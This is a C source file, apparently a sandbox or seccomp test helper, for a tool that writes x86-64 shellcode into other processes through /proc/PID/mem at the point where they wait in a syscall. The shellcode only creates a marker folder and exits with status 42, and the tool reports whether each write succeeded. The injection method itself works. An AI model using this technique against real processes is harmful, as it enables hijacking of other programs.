/* implant NAME FOLDER: opens the memory of each process with this name that
 * has FOLDER in its arguments, and lays code over the instruction where it
 * waits: make FOLDER, then exit with status 42. It runs when this process, which
 * those wait for, has ended.
 *
 * Prints for each "PID Seccomp=2 mem: EACCES", or "mem: written". */
#include <errno.h>
#include <signal.h>
#include <sys/stat.h>

#include "processes.h"

#ifndef __x86_64__
#error "the instructions of x86-64"
#endif

extern const char code[], code_end[];
__asm__(".pushsection .rodata\n"
	"code:	lea	path(%rip), %rdi\n"
	"	mov	$0755, %esi\n"
	"	mov	$83, %eax\n" /* mkdir */
	"	syscall\n"
	"	mov	$42, %edi\n"
	"	mov	$231, %eax\n" /* exit_group */
	"	syscall\n"
	"path:\n"
	"code_end:\n"
	".popsection\n");

/* The instruction where it waits; 0: it does not. */
static unsigned long where(int pid)
{
	char text[512];
	unsigned long pc = 0;

	for (int i = 0; i < 100 && !pc; i++) {
		char *last;

		if (!proc_text(pid, "syscall", text, sizeof(text)))
			return 0;
		last = strrchr(text, ' ');
		pc = last ? strtoul(last, NULL, 16) : 0;
		if (!pc)
			usleep(10 * 1000);
	}
	return pc;
}

static const char *write_code(int pid, const char *folder)
{
	char path[64], all[1024];
	size_t n = (size_t)(code_end - code);
	unsigned long pc;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return strerrorname_np(errno);
	memcpy(all, code, n);
	snprintf(all + n, sizeof(all) - n, "%s", folder);
	n += strlen(folder) + 1;
	pc = where(pid);
	if (!pc)
		return "opened, but it does not wait";
	if (pwrite(fd, all, n, (off_t)pc) != (ssize_t)n)
		return "opened, and refused the write";
	return "written";
}

static void take_over(int pid, void *folder)
{
	char status[8192], *field;

	proc_text(pid, "status", status, sizeof(status));
	field = strstr(status, "\nSeccomp:\t");
	printf("%d Seccomp=%c mem: %s\n", pid, field ? field[10] : '?',
	       write_code(pid, folder));
	fflush(stdout);
}

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	/* as long as the end of a launch takes */
	usleep(100 * 1000);
	return each_process(argv[1], argv[2], take_over, argv[2]) ? 0 : 1;
}
